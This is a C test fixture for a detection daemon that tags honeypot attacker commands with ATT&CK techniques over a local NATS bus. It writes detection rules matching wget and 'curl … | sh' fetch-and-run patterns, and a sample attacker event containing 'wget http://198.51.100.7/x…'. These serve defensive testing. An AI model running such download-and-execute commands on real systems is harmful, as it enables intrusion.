/*
 * Bus integration fixture (see natsfx.h).  Only 127.0.0.1 is ever used.
 */
#include "config.h"

#include <check.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "natsfx.h"
#include "testutil.h"

static struct fx *live; /* for the atexit cleanup */
static pid_t runner_pid;

void
fx_init_runner(void)
{
	runner_pid = getpid();
}

/* A new /tmp/ttpd-test.bus<runner>.XXXXXX directory. */
static char *
fx_mkdtemp(void)
{
	char tmpl[64];

	snprintf(tmpl, sizeof tmpl, "/tmp/ttpd-test.bus%ld.XXXXXX",
	    (long)(runner_pid > 0 ? runner_pid : getpid()));
	ck_assert_msg(mkdtemp(tmpl) != NULL, "mkdtemp: %s", strerror(errno));
	return strdup(tmpl);
}

/* SIGKILL pid if its command line names `what` (never a reused pid). */
static void
kill_if(long pid, const char *what)
{
	char path[64], cmd[512];
	size_t n, i;
	FILE *fp;

	if (pid <= 1)
		return;
	snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
	if ((fp = fopen(path, "r")) == NULL)
		return;
	n = fread(cmd, 1, sizeof cmd - 1, fp);
	fclose(fp);
	for (i = 0; i < n; i++)
		if (cmd[i] == '\0')
			cmd[i] = ' ';
	cmd[n] = '\0';
	if (strstr(cmd, what) != NULL)
		kill((pid_t)pid, SIGKILL);
}

void
fx_cleanup_runner(void)
{
	char prefix[64], path[1024], *text;
	struct dirent *de, *fe;
	DIR *tmp, *d;

	snprintf(prefix, sizeof prefix, "ttpd-test.bus%ld.", (long)getpid());
	if ((tmp = opendir("/tmp")) == NULL)
		return;
	while ((de = readdir(tmp)) != NULL) {
		if (strncmp(de->d_name, prefix, strlen(prefix)) != 0)
			continue;
		/* a detached daemon, and anything PDEATHSIG missed */
		snprintf(path, sizeof path, "/tmp/%s/ttpd.pid", de->d_name);
		if ((text = tu_read_file(path, NULL)) != NULL) {
			kill_if(strtol(text, NULL, 10), "ttpd");
			free(text);
		}
		snprintf(path, sizeof path, "/tmp/%s", de->d_name);
		if ((d = opendir(path)) != NULL) {
			while ((fe = readdir(d)) != NULL)
				if (strncmp(fe->d_name, "nats-server_", 12) ==
				    0)
					kill_if(strtol(fe->d_name + 12, NULL,
					    10), "nats-server");
			closedir(d);
		}
		tu_rmtree(path);
	}
	closedir(tmp);
}

static void
msleep(int ms)
{
	struct timespec ts = { ms / 1000, (long)(ms % 1000) * 1000000L };

	while (nanosleep(&ts, &ts) != 0 && errno == EINTR)
		;
}

static int64_t
now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

/* Wait for pid with a deadline; -1 if it is still running. */
static int
wait_exit(pid_t pid, int timeout_ms)
{
	int64_t end = now_ms() + timeout_ms;
	int status;
	pid_t r;

	for (;;) {
		r = waitpid(pid, &status, WNOHANG);
		if (r == pid)
			return WIFEXITED(status) ? WEXITSTATUS(status) :
			    128 + WTERMSIG(status);
		if (r < 0)
			return -2;
		if (now_ms() > end)
			return -1;
		msleep(20);
	}
}

static void
kill_wait(pid_t *pid, int sig)
{
	if (*pid <= 0)
		return;
	kill(*pid, sig);
	if (wait_exit(*pid, 15000) == -1) {
		kill(*pid, SIGKILL);
		wait_exit(*pid, 5000);
	}
	*pid = 0;
}

static void
cleanup_at_exit(void)
{
	if (live != NULL)
		fx_teardown(live);
}

/* fork + exec that dies with us; stdout/stderr into logpath. */
static pid_t
spawn(const char *const *argv, const char *logpath)
{
	pid_t pid = fork();
	int fd;

	ck_assert(pid >= 0);
	if (pid == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		fd = open(logpath, O_WRONLY | O_CREAT | O_APPEND, 0644);
		if (fd >= 0) {
			dup2(fd, 1);
			dup2(fd, 2);
		}
		fd = open("/dev/null", O_RDONLY);
		if (fd >= 0)
			dup2(fd, 0);
		execv(argv[0], (char *const *)(uintptr_t)argv);
		_exit(127);
	}
	return pid;
}

static void
write_rule(const char *dir, const char *name, const char *text)
{
	char path[1024];

	snprintf(path, sizeof path, "%s/rules/%s", dir, name);
	tu_write_file(path, text);
}

void
fx_write_conf(struct fx *f, const char *bus_extra, const char *extra)
{
	char path[1024], rules[1024], *text;

	snprintf(path, sizeof path, "%s/ttpd.conf", f->dir);
	if (f->rules_dir != NULL)
		snprintf(rules, sizeof rules, "%s", f->rules_dir);
	else
		snprintf(rules, sizeof rules, "%s/rules", f->dir);
	ck_assert(asprintf(&text,
	    "store: { path = \"%s/ttpd.db\"; batch_size = 1000; %s };\n"
	    "rules: { dirs = [ \"%s\" ]; };\n"
	    "plugins: { dir = \"%s/plugins/.libs\"; load = ( %s ); };\n"
	    "log: { level = \"info\"; };\n"
	    "daemon: { pidfile = \"%s/ttpd.pid\"; };\n"
	    "bus: { servers = [ \"%s\" ]; heartbeat_s = 1;"
	    " reconnect_wait_ms = 100; reconnect_max_wait_ms = 500;\n%s\n};\n"
	    "%s\n", f->dir, f->store_extra != NULL ? f->store_extra : "",
	    rules, tu_env("TTPD_BUILDDIR"), f->plugins_load != NULL ?
	    f->plugins_load : "{ name = \"rule_engine\"; }", f->dir,
	    f->url, bus_extra != NULL ? bus_extra : "",
	    extra != NULL ? extra : "") > 0);
	tu_write_file(path, text);
	free(text);
	free(f->conf);
	f->conf = strdup(path);
}

/* The ports file nats-server writes once it listens. */
static int
read_ports(struct fx *f)
{
	char path[1024], *text, *p, *q;

	snprintf(path, sizeof path, "%s/nats-server_%ld.ports", f->dir,
	    (long)f->nats_pid);
	if ((text = tu_read_file(path, NULL)) == NULL)
		return 0;
	p = strstr(text, "\"nats\":[\"");
	if (p == NULL || (q = strchr(p + 9, '"')) == NULL) {
		free(text);
		return 0;
	}
	*q = '\0';
	snprintf(f->url, sizeof f->url, "%s", p + 9);
	free(text);
	p = strrchr(f->url, ':');
	f->port = p != NULL ? atoi(p + 1) : 0;
	return f->port > 0 && (strncmp(f->url, "nats://127.0.0.1:", 17) == 0 ||
	    strncmp(f->url, "tls://127.0.0.1:", 16) == 0);
}

void
fx_nats_start(struct fx *f)
{
	char store[1024], log[1024], port[16];
	const char *argv[32];
	int i = 0, tries;

	snprintf(store, sizeof store, "%s/store", f->dir);
	snprintf(log, sizeof log, "%s/nats-server.log", f->dir);
	snprintf(port, sizeof port, "%d", f->port > 0 ? f->port : -1);
	argv[i++] = "/usr/sbin/nats-server";
	argv[i++] = "-a";
	argv[i++] = "127.0.0.1";
	argv[i++] = "-p";
	argv[i++] = port;
	argv[i++] = "-m";
	argv[i++] = "-1";
	argv[i++] = "-js";
	argv[i++] = "-sd";
	argv[i++] = store;
	argv[i++] = "--ports_file_dir";
	argv[i++] = f->dir;
	for (tries = 0; f->nats_args != NULL && f->nats_args[tries] != NULL &&
	    i < 30; tries++)
		argv[i++] = f->nats_args[tries];
	tries = 0;
	argv[i] = NULL;
	ck_assert_msg(access(argv[0], X_OK) == 0, "%s is missing: install "
	    "the nats-server package (tools/setup-deps)", argv[0]);
	/* a restart on the same port may find it in TIME_WAIT briefly */
	for (tries = 0; tries < 50; tries++) {
		f->nats_pid = spawn(argv, log);
		for (i = 0; i < 200; i++) {
			if (read_ports(f))
				return;
			if (waitpid(f->nats_pid, NULL, WNOHANG) ==
			    f->nats_pid)
				break;
			msleep(25);
		}
		if (i == 200)
			break;
		f->nats_pid = 0;
		msleep(100);
	}
	{
		char *text = tu_read_file(log, NULL);

		ck_abort_msg("nats-server did not start: %s",
		    text != NULL ? text : "(no log)");
	}
}

void
fx_nats_stop(struct fx *f, int sig)
{
	char path[1024];

	snprintf(path, sizeof path, "%s/nats-server_%ld.ports", f->dir,
	    (long)f->nats_pid);
	kill_wait(&f->nats_pid, sig);
	unlink(path);
}

static char *pending_dir;

char *
fx_prepare_dir(void)
{
	pending_dir = fx_mkdtemp();
	return pending_dir;
}

void
fx_setup(struct fx *f, const char *bus_extra, const char *extra)
{
	fx_setup_with(f, NULL, NULL, bus_extra, extra);
}

void
fx_setup_with(struct fx *f, const char *const *nats_args,
    const struct fx_client *client, const char *bus_extra,
    const char *extra)
{
	char path[1024];
	natsOptions *o;
	natsStatus s;
	size_t i, n = 0;

	memset(f, 0, sizeof *f);
	f->dir = pending_dir != NULL ? pending_dir : fx_mkdtemp();
	pending_dir = NULL;
	live = f;
	atexit(cleanup_at_exit);
	while (nats_args != NULL && nats_args[n] != NULL)
		n++;
	f->nats_args = calloc(n + 1, sizeof *f->nats_args);
	for (i = 0; i < n; i++) {
		if (strncmp(nats_args[i], "@/", 2) == 0)
			ck_assert(asprintf(&f->nats_args[i], "%s%s", f->dir,
			    nats_args[i] + 1) > 0);
		else
			f->nats_args[i] = strdup(nats_args[i]);
	}
	snprintf(path, sizeof path, "%s/rules", f->dir);
	ck_assert(mkdir(path, 0755) == 0);
	write_rule(f->dir, "TI0001.yaml",
	    "rule_id: TI0001\nrule_version: 1\nname: wget\n"
	    "description: integration fixture\napplies_to: [command]\n"
	    "match:\n  field: command_text\n  pattern: '\\bwget\\b'\n"
	    "emits:\n  - tactic: TA0011\n    technique_id: T1105\n"
	    "    confidence: 0.8\nevidence_fields: [command_text]\n");
	write_rule(f->dir, "TI0002.yaml",
	    "rule_id: TI0002\nrule_version: 1\nname: curl_sh\n"
	    "description: integration fixture, two techniques\n"
	    "applies_to: [command]\n"
	    "match:\n  field: command_text\n  pattern: 'curl .*\\| *sh'\n"
	    "emits:\n  - tactic: TA0011\n    technique_id: T1105\n"
	    "    confidence: 0.7\n  - tactic: TA0002\n"
	    "    technique_id: T1059\n    sub_technique_id: T1059.004\n"
	    "    confidence: 0.6\nevidence_fields: [command_text]\n");
	f->port = -1;
	fx_nats_start(f);
	fx_write_conf(f, bus_extra, extra);
	ck_assert(natsOptions_Create(&o) == NATS_OK);
	natsOptions_SetURL(o, f->url);
	if (client != NULL && client->user != NULL)
		natsOptions_SetUserInfo(o, client->user, client->password);
	if (client != NULL && client->token != NULL)
		natsOptions_SetToken(o, client->token);
	if (client != NULL && client->nkey != NULL)
		ck_assert(natsOptions_SetNKeyFromSeed(o, client->nkey,
		    client->nkey_seed) == NATS_OK);
	if (client != NULL && client->ca != NULL) {
		natsOptions_SetSecure(o, true);
		ck_assert(natsOptions_LoadCATrustedCertificates(o,
		    client->ca) == NATS_OK);
	}
	natsOptions_SetMaxReconnect(o, -1);
	natsOptions_SetReconnectWait(o, 100);
	s = natsConnection_Connect(&f->nc, o);
	natsOptions_Destroy(o);
	ck_assert_msg(s == NATS_OK, "connect %s: %s", f->url,
	    natsStatus_GetText(s));
	ck_assert(natsConnection_SubscribeSync(&f->out, f->nc, "ttp.>") ==
	    NATS_OK);
	ck_assert(natsConnection_SubscribeSync(&f->health, f->nc,
	    "system.ttp.health") == NATS_OK);
	natsSubscription_SetPendingLimits(f->out, -1, -1);
	natsSubscription_SetPendingLimits(f->health, -1, -1);
	fx_flush(f);
}

void
fx_teardown(struct fx *f)
{
	int i;

	if (f->dir == NULL)
		return;
	for (i = 0; i < FX_MAX_TTPD; i++)
		kill_wait(&f->ttpd_pid[i], SIGTERM);
	{
		/* a detached daemon (daemon-mode test) is not our child */
		char path[1024], *text;
		long pid;

		snprintf(path, sizeof path, "%s/ttpd.pid", f->dir);
		if ((text = tu_read_file(path, NULL)) != NULL) {
			pid = strtol(text, NULL, 10);
			if (pid > 1)
				kill((pid_t)pid, SIGKILL);
			free(text);
		}
	}
	if (f->out != NULL)
		natsSubscription_Destroy(f->out);
	if (f->health != NULL)
		natsSubscription_Destroy(f->health);
	if (f->nc != NULL)
		natsConnection_Destroy(f->nc);
	f->out = f->health = NULL;
	f->nc = NULL;
	fx_nats_stop(f, SIGTERM);
	if (getenv("TTPD_KEEP_TEST_DIR") == NULL)
		tu_rmtree(f->dir);
	else
		fprintf(stderr, "kept %s\n", f->dir);
	for (i = 0; f->nats_args != NULL && f->nats_args[i] != NULL; i++)
		free(f->nats_args[i]);
	free(f->nats_args);
	f->nats_args = NULL;
	free(f->dir);
	free(f->conf);
	f->dir = NULL;
	f->conf = NULL;
	if (live == f)
		live = NULL;
}

char *
fx_ttpd_log(struct fx *f, int i)
{
	char path[1024], *text;

	snprintf(path, sizeof path, "%s/ttpd%d.log", f->dir, i);
	text = tu_read_file(path, NULL);
	return text != NULL ? text : strdup("");
}

int
fx_wait_log(struct fx *f, int i, const char *text, int timeout_s)
{
	int64_t end = now_ms() + (int64_t)timeout_s * 1000;
	char *log;
	int found;

	for (;;) {
		log = fx_ttpd_log(f, i);
		found = strstr(log, text) != NULL;
		free(log);
		if (found || now_ms() > end)
			return found;
		msleep(50);
	}
}

/* Wait for a heartbeat from pid (or any, pid 0). */
static int
wait_heartbeat(struct fx *f, pid_t pid, int timeout_ms)
{
	int64_t end = now_ms() + timeout_ms;
	natsMsg *m;
	char want[64];

	snprintf(want, sizeof want, "\"pid\":%ld", (long)pid);
	while (now_ms() < end) {
		if (natsSubscription_NextMsg(&m, f->health, 200) != NATS_OK)
			continue;
		if (pid == 0 || strstr(natsMsg_GetData(m), want) != NULL) {
			natsMsg_Destroy(m);
			return 1;
		}
		natsMsg_Destroy(m);
	}
	return 0;
}

void
fx_ttpd_start(struct fx *f, int i, int wait_ready)
{
	char bin[1024], log[1024];
	const char *argv[] = { bin, "-f", "-c", f->conf, NULL };

	snprintf(bin, sizeof bin, "%s/host/ttpd", tu_env("TTPD_BUILDDIR"));
	snprintf(log, sizeof log, "%s/ttpd%d.log", f->dir, i);
	f->ttpd_pid[i] = spawn(argv, log);
	if (wait_ready && !wait_heartbeat(f, f->ttpd_pid[i], 20000)) {
		char *text = fx_ttpd_log(f, i);

		ck_abort_msg("ttpd #%d did not come up: %s", i, text);
	}
}

int
fx_ttpd_stop(struct fx *f, int i, int sig)
{
	int rc;

	if (f->ttpd_pid[i] <= 0)
		return -1;
	kill(f->ttpd_pid[i], sig);
	rc = wait_exit(f->ttpd_pid[i], 30000);
	if (rc == -1) {
		kill(f->ttpd_pid[i], SIGKILL);
		wait_exit(f->ttpd_pid[i], 5000);
	}
	f->ttpd_pid[i] = 0;
	return rc;
}

int
fx_ttpd_alive(struct fx *f, int i)
{
	return f->ttpd_pid[i] > 0 &&
	    waitpid(f->ttpd_pid[i], NULL, WNOHANG) == 0;
}

void
fx_flush(struct fx *f)
{
	ck_assert(natsConnection_FlushTimeout(f->nc, 10000) == NATS_OK);
}

void
fx_pub(struct fx *f, const char *subject, const char *data, size_t len)
{
	natsStatus s = natsConnection_Publish(f->nc, subject, data, (int)len);

	ck_assert_msg(s == NATS_OK, "publish %s: %s", subject,
	    natsStatus_GetText(s));
}

void
fx_pub_str(struct fx *f, const char *subject, const char *data)
{
	fx_pub(f, subject, data, strlen(data));
	fx_flush(f);
}

char *
fx_session_env(int n)
{
	char *s;

	ck_assert(asprintf(&s,
	    "{\"v\":1,\"id\":\"%032x\",\"topic\":\"attacker.session.ended\","
	    "\"type\":\"session.ended\",\"ts\":1700000000.5,\"payload\":{"
	    "\"session_id\":\"sess-%d\",\"attacker_uuid\":\"att-%d\","
	    "\"attacker_ip\":\"10.0.%d.%d\",\"decky_id\":\"decky-1\","
	    "\"service\":\"ssh\",\"commands\":[{\"id\":\"sess-%d#0\","
	    "\"command_text\":\"wget http://198.51.100.7/x%d\"}]}}",
	    (unsigned)n, n, n % 97, (n / 97) % 250, n % 250, n, n) > 0);
	return s;
}

long
fx_count(struct fx *f, const char *sql)
{
	char path[1024];
	sqlite3 *db;
	sqlite3_stmt *st;
	long n = -1;

	snprintf(path, sizeof path, "%s/ttpd.db", f->dir);
	if (sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL) !=
	    SQLITE_OK) {
		sqlite3_close(db);
		return -1;
	}
	sqlite3_busy_timeout(db, 5000);
	if (sqlite3_prepare_v2(db, sql, -1, &st, NULL) == SQLITE_OK) {
		if (sqlite3_step(st) == SQLITE_ROW)
			n = sqlite3_column_int64(st, 0);
		sqlite3_finalize(st);
	}
	sqlite3_close(db);
	return n;
}

long
fx_wait_count(struct fx *f, const char *sql, long want, int timeout_s)
{
	int64_t end = now_ms() + (int64_t)timeout_s * 1000;
	long n;

	for (;;) {
		n = fx_count(f, sql);
		if (n >= want || now_ms() > end)
			return n;
		msleep(50);
	}
}

natsMsg *
fx_next_out(struct fx *f, int timeout_ms)
{
	natsMsg *m = NULL;

	if (natsSubscription_NextMsg(&m, f->out, timeout_ms) != NATS_OK)
		return NULL;
	return m;
}

long
fx_count_out(struct fx *f, const char *subject, int quiet_ms)
{
	natsMsg *m;
	long n = 0;

	while ((m = fx_next_out(f, quiet_ms)) != NULL) {
		if (strcmp(natsMsg_GetSubject(m), subject) == 0)
			n++;
		natsMsg_Destroy(m);
	}
	return n;
}

/* "key":<int> in text, -1 when absent. */
static long
json_int(const char *text, const char *key)
{
	char pat[128];
	const char *p;

	snprintf(pat, sizeof pat, "\"%s\":", key);
	if ((p = strstr(text, pat)) == NULL)
		return -1;
	return strtol(p + strlen(pat), NULL, 10);
}

char *
fx_beat(struct fx *f)
{
	int64_t end = now_ms() + 10000;
	natsMsg *m;
	char *text;

	/* skip the beats already queued: the next one counts */
	while (natsSubscription_NextMsg(&m, f->health, 0) == NATS_OK)
		natsMsg_Destroy(m);
	while (now_ms() < end) {
		if (natsSubscription_NextMsg(&m, f->health, 500) != NATS_OK)
			continue;
		text = strdup(natsMsg_GetData(m));
		natsMsg_Destroy(m);
		return text;
	}
	ck_abort_msg("no heartbeat from ttpd");
	return NULL;
}

long
fx_beat_int(const char *beat, const char *key)
{
	const char *dot;

	if ((dot = strchr(key, '.')) != NULL) {
		const char *sec = strstr(beat, "\"malformed\":{");

		return sec != NULL ? json_int(sec, dot + 1) : -1;
	}
	return json_int(beat, key);
}

long
fx_health(struct fx *f, const char *key)
{
	char *beat = fx_beat(f);
	long v = fx_beat_int(beat, key);

	free(beat);
	return v;
}
